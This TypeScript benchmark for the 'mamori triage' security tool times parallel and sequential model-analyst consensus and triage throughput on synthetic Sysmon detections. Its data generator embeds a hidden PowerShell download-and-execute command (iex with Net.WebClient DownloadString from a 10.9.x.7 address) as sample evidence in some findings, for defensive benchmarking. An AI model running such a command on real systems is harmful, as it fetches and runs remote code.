// bench/triage: what consensus costs. Two measurements, each beside a baseline taken in the same run:
//   1. latency: model analysts that each take DELAY ms (a fake provider on 127.0.0.1, test/support/model-server.ts)
//      judging findings together through triage(), against the same analysts asked one after another (the sum a
//      sequential pipeline would pay). The ratio is what running them in parallel and independently buys.
//   2. throughput: `mamori triage` with the built-in analysts over FINDINGS generated detections (a fleet of HOSTS
//      hosts), in its own process under GNU time, against a child that only reads, parses and re-writes the same
//      JSONL (the floor any triage pays). Findings per second, peak RSS, and the ratio to the floor.
import { spawnSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { cpus, tmpdir } from 'node:os';
import { join } from 'node:path';
import { createAnalysts } from '../src/analysts/registry.ts';
import { defaultConfig } from '../src/analysts/config.ts';
import { findPolicy } from '../src/analysts/consensus/policy.ts';
import { judgeFinding, triage } from '../src/analysts/consensus/triage.ts';
import type { Finding } from '../src/core/index.ts';
import { seededRandom } from '../src/core/random.ts';
import { GOOD_VERDICT, startModelServer } from '../test/support/model-server.ts';

const here = import.meta.dirname;
const BIN = join(here, '..', 'bin', 'mamori');
const DELAY = Number(process.env['BENCH_TRIAGE_DELAY_MS'] ?? 1000);
const LATENCY_FINDINGS = Number(process.env['BENCH_TRIAGE_LATENCY_FINDINGS'] ?? 4);
const FINDINGS = Number(process.env['BENCH_TRIAGE_FINDINGS'] ?? 20_000);
const HOSTS = Number(process.env['BENCH_TRIAGE_HOSTS'] ?? 400);
const TIME = '/usr/bin/time';

// --floor FILE: the baseline child (read, parse, write one line per finding)
if (process.argv[2] === '--floor') {
  const { createReadStream } = await import('node:fs');
  const { createInterface } = await import('node:readline');
  let n = 0;
  const out: string[] = [];
  for await (const line of createInterface({ input: createReadStream(process.argv[3]!), crlfDelay: Infinity })) {
    if (!line) continue;
    const f = JSON.parse(line) as { id: string };
    out.push(JSON.stringify({ finding: { id: f.id }, outcome: 'review' }));
    n++;
  }
  process.stdout.write(`${out.join('\n')}\n`);
  process.stderr.write(`${n}\n`);
  process.exit(0);
}

const RULES = [
  { id: 'b1e8c6f2-0000-4000-8000-000000000001', title: 'Suspicious PowerShell Flags', level: 'medium', t: 't1059.001' },
  { id: 'b1e8c6f2-0000-4000-8000-000000000002', title: 'Scheduled Task Creation', level: 'low', t: 't1053.005' },
  { id: 'b1e8c6f2-0000-4000-8000-000000000003', title: 'PsExec Service Start', level: 'high', t: 't1569.002' },
  { id: 'b1e8c6f2-0000-4000-8000-000000000004', title: 'Shadow Copy Deletion', level: 'high', t: 't1490' },
] as const;

/** Detections as hunt writes them: routine behaviours on most hosts, and a long tail of one-offs. */
function fleetFindings(n: number, hosts: number, seed = 7): Finding[] {
  const r = seededRandom(seed);
  const out: Finding[] = [];
  for (let i = 0; i < n; i++) {
    const rule = RULES[Math.floor(r() * RULES.length)]!;
    const host = `WS-${String(Math.floor(r() * hosts)).padStart(4, '0')}.corp.example.jp`;
    const oneOff = r() < 0.02;
    const cmd = oneOff
      ? `powershell.exe -nop -w hidden -c iex(New-Object Net.WebClient).DownloadString('http://10.9.${i % 250}.7/${i}')`
      : `powershell.exe -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\ScriptStore\\${Math.floor(r() * 12)}.ps1`;
    const day = 1 + Math.floor(r() * 28);
    out.push({
      id: `f-${i.toString(16).padStart(32, '0')}`,
      kind: 'detection',
      severity: rule.level,
      title: rule.title,
      rule: {
        id: rule.id,
        title: rule.title,
        level: rule.level,
        status: 'test',
        tags: ['attack.execution', `attack.${rule.t}`],
      },
      asset: { kind: 'host', name: host },
      time: `2026-11-${String(day).padStart(2, '0')}T10:00:00.000Z`,
      evidence: [
        {
          source: { file: 'C:\\logs\\sysmon.evtx', recordId: i + 1 },
          data: {
            Event: {
              System: { Computer: host, EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational' },
              EventData: {
                Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
                ParentImage: oneOff ? 'C:\\Windows\\explorer.exe' : 'C:\\Windows\\CCM\\CcmExec.exe',
                CommandLine: cmd,
                User: 'CORP\\svc_sccm',
              },
            },
          },
        },
      ],
    } as unknown as Finding);
  }
  return out;
}

function gnuTime(args: string[]): { seconds: number; rssMb: number; stderr: string } {
  const r = spawnSync(TIME, ['-f', '%e %M', ...args], { encoding: 'utf8', maxBuffer: 1 << 30 });
  if (r.status !== 0) throw new Error(`${args.join(' ')} failed (${r.status}): ${r.stderr.slice(-2000)}`);
  const last = r.stderr.trim().split('\n').at(-1)!.split(' ');
  return { seconds: Number(last[0]), rssMb: Number(last[1]) / 1024, stderr: r.stderr };
}

const fmt = (x: number, d = 2) => x.toFixed(d);

async function latency(): Promise<void> {
  const server = await startModelServer();
  const home = await mkdtemp(join(tmpdir(), 'mamori-bench-triage-'));
  try {
    const findings = fleetFindings(LATENCY_FINDINGS, 4, 3);
    console.log(
      `latency: model analysts each answering after ${DELAY} ms (fake provider on 127.0.0.1), ${findings.length} findings, one at a time`,
    );
    console.log('| analysts | parallel ms/finding | one after another ms/finding | ratio |');
    console.log('|---|---|---|---|');
    for (const n of [2, 3]) {
      const names = Array.from({ length: n }, (_, i) =>
        i % 2 === 0 ? `openai-compatible:m${i}@${server.openaiBaseURL}` : `anthropic:claude-${i}`,
      );
      const set = await createAnalysts(names, {
        config: defaultConfig(),
        env: { ANTHROPIC_API_KEY: 'sk-bench', ANTHROPIC_BASE_URL: server.url },
        home,
      });
      const policy = findPolicy('unanimous')!;
      const answer = { kind: 'verdict', value: GOOD_VERDICT, delayMs: DELAY } as const;
      try {
        server.script(...Array.from({ length: findings.length * n * 2 }, () => answer));
        let t0 = performance.now();
        for await (const _ of triage(findings, set.analysts, policy, { concurrency: 1 })) void _;
        const parallel = (performance.now() - t0) / findings.length;
        t0 = performance.now();
        for (const f of findings) {
          // the baseline: each analyst asked only after the previous one answered
          for (const a of set.analysts) await judgeFinding(f, [a], policy);
        }
        const sequential = (performance.now() - t0) / findings.length;
        console.log(`| ${n} | ${fmt(parallel, 0)} | ${fmt(sequential, 0)} | ${fmt(parallel / sequential)} |`);
      } finally {
        await set.close();
        server.reset();
      }
    }
  } finally {
    await server.close();
    await rm(home, { recursive: true, force: true });
  }
}

async function throughput(): Promise<void> {
  const dir = await mkdtemp(join(tmpdir(), 'mamori-bench-triage-'));
  try {
    const file = join(dir, 'findings.jsonl');
    await writeFile(
      file,
      `${fleetFindings(FINDINGS, HOSTS)
        .map((f) => JSON.stringify(f))
        .join('\n')}\n`,
    );
    const env = { ...process.env, MAMORI_HOME: join(dir, 'home') };
    process.env['MAMORI_HOME'] = env.MAMORI_HOME;
    const floor = gnuTime([process.execPath, ...process.execArgv, import.meta.filename, '--floor', file]);
    const runs: { seconds: number; rssMb: number }[] = [];
    for (const history of ['new', 'kept']) {
      // the first run starts the fleet history; the second reads and extends it, as a daily job would
      const t = gnuTime([
        BIN,
        'triage',
        '--findings',
        file,
        '-f',
        'jsonl',
        '-q',
        '-o',
        join(dir, `out-${history}.jsonl`),
      ]);
      runs.push(t);
    }
    console.log(
      `\nthroughput: mamori triage, builtin-rules + builtin-rarity, ${FINDINGS} detections over ${HOSTS} hosts (${cpus()[0]?.model ?? '?'})`,
    );
    console.log('| run | seconds | findings/s | peak RSS MB | ratio to floor |');
    console.log('|---|---|---|---|---|');
    console.log(
      `| floor: read, parse, write | ${fmt(floor.seconds)} | ${fmt(FINDINGS / floor.seconds, 0)} | ${fmt(floor.rssMb, 0)} | 1.00 |`,
    );
    for (const [i, t] of runs.entries())
      console.log(
        `| triage, ${i === 0 ? 'new history' : 'history kept from the run before'} | ${fmt(t.seconds)} | ${fmt(FINDINGS / t.seconds, 0)} | ${fmt(t.rssMb, 0)} | ${fmt(t.seconds / floor.seconds)} |`,
      );
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

if (process.argv[2] === '--write') {
  // `node bench/triage.ts --write FILE`: only write the generated findings (to profile mamori triage on them)
  await writeFile(
    process.argv[3]!,
    `${fleetFindings(FINDINGS, HOSTS)
      .map((f) => JSON.stringify(f))
      .join('\n')}\n`,
  );
} else {
  await latency();
  await throughput();
}
